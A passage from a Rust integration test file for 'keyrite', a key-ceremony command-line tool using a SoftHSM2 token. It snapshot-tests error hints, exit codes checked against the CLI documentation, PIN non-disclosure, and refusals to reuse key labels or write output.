    assert!(!c.dir().join("rewrapped").exists());
    assert!(!c.dir().join("r.jsonl").exists());
}

#[test]
fn an_unset_pin_variable_and_a_window_over_say_what_to_do() {
    let c = Ceremony::new(&["us-east-1"]);
    c.write_plan_window(
        "payments-2020",
        "2020-01-01T00:00:00Z",
        "2020-01-02T00:00:00Z",
        wrap::OAEP_SHA1,
    );
    c.approve_plan();
    let runs = vec![
        argv(&["keys", "list", "--pin-env", "KR_NOT_SET"]),
        argv(&["plan", "check", "plan.toml", "--policy", "policy.toml"]),
        argv(&[
            "ceremony",
            "run",
            "plan.toml",
            "--policy",
            "policy.toml",
            "--approvals",
            "approvals",
            "--transcript",
            "t.jsonl",
        ]),
    ];
    // The time now, as the refusal of the window says it, named.
    let snapshot = shown_runs(&c, &runs, &run_names(&c));
    let mut names = Vec::new();
    for (i, _) in snapshot.match_indices("it is now ") {
        let at = i + "it is now ".len();
        names.push((
            snapshot[at..at + "2026-01-01T00:00:00Z".len()].to_owned(),
            "[NOW]",
        ));
    }
    let snapshot = names
        .iter()
        .fold(snapshot, |s, (now, name)| s.replace(now.as_str(), name));
    insta::assert_snapshot!("unset_pin_and_window_over", snapshot);
    assert!(!c.dir().join("t.jsonl").exists());
}

#[test]
fn hints_name_where_the_command_takes_its_input_and_a_stray_word_is_never_echoed() {
    let c = Ceremony::new(&["us-east-1"]);
    c.run_approved("t.jsonl");
    let pin = WRONG_PLACE[0];
    let runs = vec![
        // A stray word, which may be the PIN: an unexpected argument, an unknown subcommand.
        argv(&["keys", "list", "--pin-env=", pin, "--token", "try"]),
        argv(&["keys", "list", "--token", "try", pin]),
        argv(&[pin]),
        // A mistyped command keeps clap's suggestion, which is keyrite's own word.
        argv(&["wrpa"]),
        // verify needs no PIN, whatever follows --pin-env.
        argv(&[
            "verify",
            "t.jsonl",
            "--signer",
            "signer.pem",
            "--no-policy",
            "--pin-env",
            "KR_PIN",
        ]),
        argv(&[
            "verify",
            "t.jsonl",
            "--signer",
            "signer.pem",
            "--no-policy",
            "--pin-file",
        ]),
        // The security officer's PIN: its variable unset, then the user PIN given as it.
        argv(&[
            "token",
            "trust-wrapping-key",
            "--provider",
            "aws",
            "--params",
            "params/us-east-1.json",
            "--key-label",
            "trusted",
            "--so-pin-env",
            pin,
        ]),
        argv(&[
            "token",
            "trust-wrapping-key",
            "--provider",
            "aws",
            "--params",
            "params/us-east-1.json",
            "--key-label",
            "trusted",
            "--so-pin-env",
            PIN_ENV,
        ]),
        // keyrite's own signer named as the key to rewrap.
        argv(&[
            "rewrap",
            "--provider",
            "aws",
            "--params",
            "params/us-east-1.json",
            "--algorithm",
            wrap::OAEP_SHA1,
            "--key-label",
            wrap::SIGNER,
            "--expect-kcv",
            "123456",
            "--out",
            "rewrapped",
            "--pin-env",
            PIN_ENV,
        ]),
    ];
    let names = run_names(&c);
    let mut done: Vec<(Vec<String>, Output)> = Vec::new();
    let mut each = |args: Vec<String>| {
        let words: Vec<&str> = args.iter().map(String::as_str).collect();
        let out = keyrite(&c, &words);
        done.push((args, out));
    };
    for args in runs {
        each(args);
    }
    // A plan whose token is not there, and one whose PIN is typed with no terminal, each
    // approved: the hints name the plan's fields.
    let plan = std::fs::read_to_string(c.dir().join("plan.toml")).unwrap();
    let token_line = format!("token_label = \"{}\"", c.token.label);
    let pin_line = format!("pin = \"env:{PIN_ENV}\"");
    for (from, to) in [
        (token_line.as_str(), "token_label = \"nosuch\""),
        (pin_line.as_str(), "pin = \"prompt\""),
    ] {
        let text = plan
            .replace(from, to)
            .replace("payments-2026", "payments-2027");
        assert_ne!(text.replace("payments-2027", "payments-2026"), plan);
        std::fs::write(c.dir().join("plan.toml"), text).unwrap();
        c.approve_plan();
        each(argv(&[
            "ceremony",
            "run",
            "plan.toml",
            "--policy",
            "policy.toml",
            "--approvals",
            "approvals",
            "--transcript",
            "t2.jsonl",
        ]));
    }
    let mut snapshot = String::new();
    let mut printed: Vec<(Vec<&str>, Output)> = Vec::new();
    for (args, out) in &done {
        let words: Vec<&str> = args.iter().map(String::as_str).collect();
        snapshot.push_str(&shown(&words, out, &names));
        snapshot.push('\n');
        printed.push((words, out.clone()));
    }
    assert_no_pin_printed(&printed);
    insta::assert_snapshot!("hints_in_context", snapshot);
    assert!(!c.dir().join("rewrapped").exists());
    assert!(!c.dir().join("t2.jsonl").exists());
    // --help and --version still exit 0.
    for args in [&["keys", "list", "--help"][..], &["--version"]] {
        let out = bare_keyrite(args);
        assert_eq!(out.status.code(), Some(0), "{args:?}");
        assert!(!out.stdout.is_empty(), "{args:?}");
    }
}

#[test]
fn refusals_that_had_no_hint_say_what_to_do() {
    let c = Ceremony::new(&["us-east-1"]);
    // The ceremony runs under a policy without witnesses.
    let with_witnesses = std::fs::read_to_string(c.dir().join("policy.toml")).unwrap();
    let witnesses_at = with_witnesses.find("\n[[witnesses]]").unwrap();
    std::fs::write(c.dir().join("policy.toml"), &with_witnesses[..witnesses_at]).unwrap();
    c.run_approved("t.jsonl");
    std::fs::create_dir(c.dir().join("taken")).unwrap();
    let policy = std::fs::read_to_string(c.dir().join("policy.toml")).unwrap();
    std::fs::write(
        c.dir().join("other-signer.toml"),
        policy.replace(
            &c.signer_fingerprint,
            &"0".repeat(c.signer_fingerprint.len()),
        ),
    )
    .unwrap();
    let wendy = c.person("wendy").key.display().to_string();
    let verify = |rest: &[&str]| {
        let mut args = argv(&["verify", "t.jsonl"]);
        args.extend(argv(rest));
        args
    };
    let run_with = |policy: &str, rest: &[&str]| {
        let mut args = argv(&[
            "ceremony",
            "run",
            "plan.toml",
            "--policy",
            policy,
            "--approvals",
            "approvals",
            "--transcript",
            "t2.jsonl",
        ]);
        args.extend(argv(rest));
        args
    };
    let destroy = argv(&[
        "keys",
        "destroy",
        "--key-label",
        "payments-2026",
        "--plan",
        "plan.toml",
        "--policy",
        "policy.toml",
        "--approvals",
        "approvals",
        "--transcript",
        "d.jsonl",
    ]);
    let runs = vec![
        argv(&[
            "pin",
            "split",
            "--plaintext",
            "--threshold",
            "1",
            "--shares",
            "3",
            "--out",
            "shares",
            "--pin-env",
            PIN_ENV,
        ]),
        argv(&[
            "pin",
            "split",
            "--plaintext",
            "--threshold",
            "2",
            "--shares",
            "3",
            "--out",
            "taken",
            "--pin-env",
            PIN_ENV,
        ]),
        argv(&[
            "token",
            "signer",
            "export",
            "--key-label",
            "nosuch",
            "--pin-env",
            PIN_ENV,
        ]),
        verify(&["--signer", "signer.pem", "--policy", "plan.toml"]),
        verify(&["--signer", "signer.pem", "--policy", "nope.toml"]),
        verify(&["--signer", "/dev/zero", "--no-policy"]),
        argv(&[
            "witness",
            "add",
            "t.jsonl",
            "--signature",
            "nope.sig",
            "--signer",
            "signer.pem",
            "--policy",
            "policy.toml",
        ]),
        run_with("policy.toml", &["--resume-from", "nope.jsonl"]),
        argv(&[
            "witness",
            "sign",
            "t.jsonl",
            "--ssh-key",
            &wendy,
            "--signer",
            "signer.pem",
            "--policy",
            "policy.toml",
        ]),
        argv(&[
            "token",
            "backup-key",
            "export",
            "--key-label",
            wrap::SIGNER,
            "--pin-env",
            PIN_ENV,
        ]),
        run_with("other-signer.toml", &[]),
        destroy.clone(),
        argv(&[
            "rewrap",
            "--provider",
            "aws",
            "--params",
            "params/us-east-1.json",
            "--algorithm",
            wrap::OAEP_SHA1,
            "--key-label",
            "unrecorded",
            "--from-transcript",
            "t.jsonl",
            "--signer",
            "signer.pem",
            "--out",
            "rewrapped",
            "--pin-env",
            PIN_ENV,
        ]),
    ];
    let mut names = run_names(&c);
    names.push((c.signer_fingerprint.clone(), "[SIGNER FINGERPRINT]"));
    let mut snapshot = shown_runs(&c, &runs, &names);
    // With the run's output moved aside, the plan meets the signer check, and keys destroy
    // the check that the plan destroys its key.
    std::fs::rename(
        c.dir().join("payments-2026-us-east-1"),
        c.dir().join("moved-aside"),
    )
    .unwrap();
    let again = vec![run_with("other-signer.toml", &[]), destroy];
    snapshot.push_str(&shown_runs(&c, &again, &names));
    // A module whose only token is not initialised: SoftHSM2 with an empty token directory.
    let empty = c.dir().join("empty-tokens");
    std::fs::create_dir(&empty).unwrap();
    let conf = c.dir().join("empty.conf");
    std::fs::write(
        &conf,
        format!("directories.tokendir = {}\n", empty.display()),
    )
    .unwrap();
    let args = ["keys", "list", "--pin-env", PIN_ENV];
    let out = run(c
        .token
        .keyrite()
        .args(args)
        .env("SOFTHSM2_CONF", &conf)
        .env("KEYRITE_PKCS11_MODULE", SOFTHSM2));
    snapshot.push_str(&shown(&args, &out, &names));
    insta::assert_snapshot!("hints_for_refusals", snapshot);
    assert!(!c.dir().join("t2.jsonl").exists());
    assert!(!c.dir().join("d.jsonl").exists());
    assert!(!c.dir().join("rewrapped").exists());
    assert!(!c.dir().join("shares").exists());
}

/// Every command keyrite has, as its words on the command line (`token signer create`): the
/// leaves of `keyrite --help`'s command tree, found by asking each command for its help.
fn every_command() -> Vec<String> {
    fn walk(path: &[&str], found: &mut Vec<String>) {
        let out = run(Command::new(env!("CARGO_BIN_EXE_keyrite"))
            .args(path)
            .arg("--help"));
        assert!(out.status.success(), "keyrite {path:?} --help");
        let help = String::from_utf8(out.stdout).unwrap();
        let subcommands: Vec<String> = help
            .split("\nCommands:\n")
            .nth(1)
            .map(|rest| {
                rest.lines()
                    .take_while(|l| l.starts_with("  "))
                    .filter_map(|l| l.split_whitespace().next())
                    .filter(|name| *name != "help")
                    .map(str::to_owned)
                    .collect()
            })
            .unwrap_or_default();
        if subcommands.is_empty() {
            found.push(path.join(" "));
        }
        for name in &subcommands {
            let mut deeper = path.to_vec();
            deeper.push(name);
            walk(&deeper, found);
        }
    }
    let mut found = Vec::new();
    walk(&[], &mut found);
    found
}

/// docs/cli.md's table of every command: each command (`token info`) with the exit codes its
/// row gives a meaning (a cell other than "—"), in the columns' order 0, 1, 2, 3, 4.
fn documented_codes() -> Vec<(String, Vec<i32>)> {
    let doc = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/docs/cli.md")).unwrap();
    let header = "| command | 0 | 1 | 2 | 3 | 4 |";
    let table = &doc[doc
        .find(header)
        .expect("docs/cli.md has the table of every command")..];
    table
        .lines()
        .skip(2)
        .take_while(|l| l.starts_with('|'))
        .map(|row| {
            let cells: Vec<&str> = row.trim_matches('|').split(" | ").map(str::trim).collect();
            assert_eq!(cells.len(), 6, "{row}");
            let command = cells[0]
                .strip_prefix("`keyrite ")
                .and_then(|c| c.strip_suffix('`'))
                .unwrap_or_else(|| panic!("not a command: {row}"));
            let codes = (0..5)
                .filter(|&code| cells[1 + code as usize] != "—")
                .collect();
            (command.to_owned(), codes)
        })
        .collect()
}

#[test]
fn docs_cli_md_names_every_command_once() {
    let mut documented: Vec<String> = documented_codes().into_iter().map(|(c, _)| c).collect();
    documented.sort();
    let mut commands = every_command();
    commands.sort();
    assert_eq!(documented, commands);
}

/// Each command's words, and the run of it that a case makes: its arguments.
struct ExitCase {
    command: &'static str,
    args: Vec<String>,
}

fn case(command: &'static str, rest: &[&str]) -> ExitCase {
    let mut args: Vec<String> = command.split(' ').map(str::to_owned).collect();
    args.extend(rest.iter().map(|a| (*a).to_owned()));
    ExitCase { command, args }
}

#[test]
fn every_command_exits_2_for_a_missing_input_and_a_usage_error_and_1_for_a_refusal() {
    let c = Ceremony::new(&["us-east-1"]);
    let names = run_names(&c);
    let kcv = "0".repeat(6);
    let wendy = c.person("wendy").key.display().to_string();
    let module = ["--module", "missing.so"];
    let pinned = ["--pin-env", PIN_ENV];
    // For every command an input it names that is not there: a file, else the module (the
    // commands that take no file but the token), else the PIN's variable (pin split).
    let missing = vec![
        case("token info", &module),
        case(
            "token signer create",
            &[&["--key-label", "s2"][..], &module].concat(),
        ),
        case(
            "token signer export",
            &[&["--key-label", "ceremony-signer"][..], &module].concat(),
        ),
        case(
            "token trust-wrapping-key",
            &[
                "--provider",
                "aws",
                "--params",
                "missing.json",
                "--key-label",
                "k",
                "--so-pin-env",
                "KR_SO",
            ],
        ),
        case(
            "token backup-key create",
            &[
                "--key-label",
                "b",
                "--for-key-pairs",
                "--policy",
                "missing.toml",
            ],
        ),
        case(
            "token backup-key export",
            &[&["--key-label", "b"][..], &module].concat(),
        ),
        case(
            "wrap",
            &[
                &[
                    "--provider",
                    "aws",
                    "--params",
                    "missing.json",
                    "--algorithm",
                    "RSAES_OAEP_SHA_1",
                ][..],
                &["--key-label", "k", "--out", "out"],
                &pinned,
            ]
            .concat(),
        ),
        case(
            "rewrap",
            &[
                &[
                    "--provider",
                    "aws",
                    "--params",
                    "missing.json",
                    "--algorithm",
                    "RSAES_OAEP_SHA_1",
                ][..],
                &[
                    "--key-label",
                    "payments-2026",
                    "--expect-kcv",
                    &kcv,
                    "--out",
                    "out",
                ],
                &pinned,
            ]
            .concat(),
        ),
        case("keys list", &module),
        case(
            "keys destroy",
            &[
                "--key-label",
                "payments-2026",
                "--plan",
                "missing.toml",
                "--policy",
                "policy.toml",
                "--approvals",
                "approvals",
                "--transcript",
                "d.jsonl",
            ],
        ),
        case(
            "restore",
            &[
                "--backup",
                "missing",
                "--key-label",
                "payments-2026",
                "--expect-kcv",
                &kcv,
                "--record",
                "r.jsonl",
                "--signer-label",
                "ceremony-signer",
                "--pin-env",
                PIN_ENV,
            ],
        ),
        case("plan check", &["missing.toml", "--policy", "policy.toml"]),
        case("plan digest", &["missing.toml"]),
        case(
            "plan script",
            &["missing.toml", "--policy", "policy.toml", "--out", "s.html"],
        ),
        case(
            "ceremony run",
            &[
                "missing.toml",
                "--policy",
                "policy.toml",
                "--approvals",
                "approvals",
                "--transcript",
                "t.jsonl",
            ],
        ),
        case(
            "pin split",
            &[
                "--plaintext",
                "--threshold",
                "2",
                "--shares",
                "3",
                "--out",
                "shares",
                "--pin-env",
                "KR_UNSET",
            ],
        ),
        case(
            "witness sign",
            &[
                "missing.jsonl",
                "--ssh-key",
                &wendy,
                "--signer",
                "signer.pem",
                "--policy",
                "policy.toml",
            ],
        ),
        case(
            "witness add",
            &[
                "missing.jsonl",
                "--signature",
                "w.sig",
                "--signer",
                "signer.pem",
                "--policy",
                "policy.toml",
            ],
        ),
        case(
            "witness message",
            &["missing.jsonl", "--signer", "signer.pem"],
        ),
        case(
            "verify",
            &[
                "missing.jsonl",
                "--signer",
                "signer.pem",
                "--policy",
                "policy.toml",
            ],
        ),
        // completions names no file: a shell it has no script for is its usage error.
        case("completions", &["powershell"]),
        case("man", &["--out", "missing"]),
    ];
    // What keyrite refuses once it has understood the request.
    let refused = vec![
        case("token info", &["--pin-env", "KR_WRONG_PIN"]),
        case(
            "token signer export",
            &[&["--key-label", "nobody"][..], &pinned].concat(),
        ),
        case(
            "wrap",
            &[
                &["--provider", "aws", "--params", "params/us-east-1.json"][..],
                &[
                    "--algorithm",
                    "RSAES_OAEP_SHA_256",
                    "--key-label",
                    "k",
                    "--out",
                    "out",
                ],
                &pinned,
            ]
            .concat(),
        ),
        case(
            "rewrap",
            &[
                &["--provider", "aws", "--params", "params/us-east-1.json"][..],
                &[
                    "--algorithm",
                    "RSAES_OAEP_SHA_1",
                    "--key-label",
                    "payments-2026",
                ],
                &["--expect-kcv", &kcv, "--out", "out"],
                &pinned,
            ]
            .concat(),
        ),
        case("keys list", &["--pin-env", "KR_WRONG_PIN"]),
        case(
            "ceremony run",
            &[
                "plan.toml",
                "--policy",
                "policy.toml",
                "--approvals",
                "approvals",
                "--transcript",
                "t.jsonl",
            ],
        ),
    ];
    let documented = documented_codes();
    let mut snapshot = String::new();
    let mut seen: Vec<(String, i32)> = Vec::new();
    for (cases, code) in [(&missing, 2), (&refused, 1)] {
        for ExitCase { command, args } in cases {
            let args: Vec<&str> = args.iter().map(String::as_str).collect();
            let out = run(c
                .token
                .keyrite()
                .env("KR_WRONG_PIN", "not-the-pin")
                .env_remove("KR_UNSET")
                .env_remove("KR_SO")
                .stdin(std::process::Stdio::null())
                .args(&args));
            assert_eq!(out.status.code(), Some(code), "keyrite {args:?}: {out:?}");
            snapshot.push_str(&shown(&args, &out, &names).replace(&wendy, "[DIR]/keys/wendy.key"));
            snapshot.push('\n');
            seen.push(((*command).to_owned(), code));
        }
    }
    insta::assert_snapshot!("exit_codes", snapshot);
    // Every command's command-line mistake is clap's: exit 2.
    for command in every_command() {
        let mut args: Vec<&str> = command.split(' ').collect();
        args.push("--no-such-option");
        let out = keyrite(&c, &args);
        assert_eq!(out.status.code(), Some(2), "keyrite {args:?}: {out:?}");
        assert!(
            String::from_utf8_lossy(&out.stderr)
                .starts_with("error: unexpected argument '--no-such-option' found"),
            "keyrite {args:?}: {out:?}"
        );
        seen.push((command, 2));
    }
    // Each code seen is the one docs/cli.md gives the command; every command was seen with 2.
    for (command, code) in &seen {
        let (_, codes) = documented
            .iter()
            .find(|(c, _)| c == command)
            .unwrap_or_else(|| panic!("docs/cli.md has no row for {command:?}"));
        assert!(
            codes.contains(code),
            "docs/cli.md gives {command:?} no exit {code}"
        );
    }
    for command in every_command() {
        assert!(
            missing.iter().any(|m| m.command == command),
            "no missing input for {command:?}"
        );
    }
    // Nothing ran: no transcript, no output, and no key was generated.
    assert!(!c.dir().join("t.jsonl").exists() && !c.dir().join("out").exists());
}

#[test]
fn counts_that_make_no_split_and_wrap_json_with_a_transcript_are_usage_errors() {
    let token = TestToken::softhsm("ceremony");
    let mut snapshot = String::new();
    let split = |threshold: &'static str, shares: &'static str| {
        vec![
            "pin",
            "split",
            "--plaintext",
            "--threshold",
            threshold,
            "--shares",
            shares,
            "--out",
            "shares",
            "--pin-env",
            PIN_ENV,
        ]
    };
    let wrap_json = vec![
        "wrap",
        "--provider",
        "pkcs11-backup",
        "--params",
        "backup.pem",
        "--algorithm",
        "RSAES_OAEP_SHA_1",
        "--key-label",
        "k",
        "--out",
        "out",
        "--transcript",
        "t.jsonl",
        "--signer-label",
        "ceremony-signer",
        "--json",
    ];
    for args in [
        split("4", "3"),
        split("2", "300"),
        split("2", "1"),
        split("1", "3"),
        split("0", "3"),
        wrap_json,
    ] {
        let out = run(token.keyrite().args(&args));
        assert_eq!(out.status.code(), Some(2), "keyrite {args:?}: {out:?}");
        snapshot.push_str(&shown(&args, &out, &[]));
        snapshot.push('\n');
    }
    // Nothing was written: no shares, no output, no transcript.
    for name in ["shares", "out", "t.jsonl"] {
        assert!(!token.path(name).exists(), "{name}");
    }
    insta::assert_snapshot!("usage_counts_and_json", snapshot);
}

/// Runs `args` in the ceremony's directory with standard output `/dev/full`.
fn full_stdout(c: &Ceremony, args: &[&str]) -> Output {
    let full = std::fs::OpenOptions::new()
        .write(true)
        .open("/dev/full")
        .unwrap();
    run(c.token.keyrite().args(args).stdout(full))
}

#[test]
fn a_report_that_cannot_be_written_says_the_command_finished_and_how_to_get_it_again() {
    let c = Ceremony::new(&["us-east-1"]);
    let names = run_names(&c);
    let wrap = [
        "wrap",
        "--provider",
        "aws",
        "--params",
        "params/us-east-1.json",
        "--algorithm",
        "RSAES_OAEP_SHA_1",
        "--key-label",
        "full1",
        "--out",
        "full1",
        "--pin-env",
        PIN_ENV,
    ];
    let split = [
        "pin",
        "split",
        "--plaintext",
        "--threshold",
        "2",
        "--shares",
        "3",
        "--out",
        "shares",
        "--pin-env",
        PIN_ENV,
    ];
    let mut snapshot = String::new();
    for args in [&wrap[..], &split[..]] {
        let out = full_stdout(&c, args);
        assert_eq!(out.status.code(), Some(1), "keyrite {args:?}: {out:?}");
        snapshot.push_str(&shown(args, &out, &names));
        snapshot.push('\n');
    }
    insta::assert_snapshot!("report_not_written", snapshot);
    // What it did stands: the wrap's output, and the shares, whose digests the second line
    // says how to get again are the ones pin split prints.
    assert!(c.dir().join("full1/manifest.json").is_file());
    let again = run_ok(c.token.keyrite().args([
        "pin",
        "split",
        "--plaintext",
        "--threshold",
        "2",
        "--shares",
        "3",
        "--out",
        "shares-2",
        "--pin-env",
        PIN_ENV,
    ]));
    let printed = String::from_utf8(again).unwrap();
    for i in 1..=3 {
        let digest = run_ok(
            Command::new("sh")
                .args(["-c", "tr -d '\\n' < \"$1\" | sha256sum", "sh"])
                .arg(c.dir().join(format!("shares-2/share-{i}.txt"))),
        );
        let digest = String::from_utf8(digest).unwrap();
        let digest = digest.split_whitespace().next().unwrap();
        assert!(
            printed.contains(&format!("\"{digest}\",  # shares-2/share-{i}.txt")),
            "{printed}"
        );
    }
}

#[test]
fn a_transcript_that_wraps_nothing_has_no_outputs_to_check() {
    let c = Ceremony::new(&["us-east-1"]);
    c.run_approved("t.jsonl");
    let names = run_names(&c);
    let kcv = c
        .transcript("t.jsonl")
        .into_iter()
        .find(|(_, v)| v["step"] == "generated")
        .unwrap()
        .1["data"]["key"]["kcv"]
        .as_str()
        .unwrap()
        .to_owned();
    let label = c
        .transcript("t.jsonl")
        .into_iter()
        .find(|(_, v)| v["step"] == "generated")
        .unwrap()
        .1["data"]["key"]["label"]
        .as_str()
        .unwrap()
        .to_owned();
    let destroy = format!(
        "version = 1\nceremony_id = \"end\"\nnot_before = \"{}\"\nnot_after = \"{}\"\n\
         operator = \"Olivia\"\ntoken_label = \"ceremony\"\nsigning_key_label = \"ceremony-signer\"\n\
         pin = \"env:{PIN_ENV}\"\n\n[[steps]]\naction = \"destroy\"\nkey_label = \"{label}\"\n\
         expect_kcv = \"{kcv}\"\n",
        c.window.0, c.window.1
    );
    std::fs::write(c.dir().join("plan.toml"), destroy).unwrap();
    for f in std::fs::read_dir(c.dir().join("approvals")).unwrap() {
        std::fs::remove_file(f.unwrap().path()).unwrap();
    }
    c.approve_plan();
    let out = c.destroy(&label, "end.jsonl");
    assert!(out.status.success(), "{out:?}");
    let mut snapshot = String::new();
    for outputs in [&[][..], &["--outputs", "."][..]] {
        let args = [
            &[
                "verify",
                "end.jsonl",
                "--signer",
                "signer.pem",
                "--policy",
                "policy.toml",
            ][..],
            outputs,
        ]
        .concat();
        let out = keyrite(&c, &args);
        assert_eq!(out.status.code(), Some(0), "{out:?}");
        snapshot.push_str(&shown(&args, &out, &names).replace(&kcv, "[KCV]"));
        snapshot.push('\n');
    }
    insta::assert_snapshot!("verify_nothing_wrapped", snapshot);
}

/// A plan whose key label the token already holds is told to change the plan, which
/// `ceremony run` takes its labels from, not an option it does not have.
#[test]
fn a_plan_whose_key_label_is_taken_is_told_to_change_the_plan() {
    let c = Ceremony::new(&["us-east-1"]);
    c.token.plant_key("payments-2026", &[7; 32], true);
    c.approve_plan();
    let out = keyrite(
        &c,
        &[
            "ceremony",
            "run",
            "plan.toml",
            "--policy",
            "policy.toml",
            "--approvals",
            "approvals",
            "--transcript",
            "t.jsonl",
        ],
    );
    let stderr = String::from_utf8(out.stderr).unwrap();
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(
        stderr.contains(
            "\nChoose another key_label in the plan (a changed plan needs new approvals); keyrite never reuses or replaces a key.\n"
        ),
        "{stderr}"
    );
    assert!(!stderr.contains("--key-label"), "{stderr}");
}
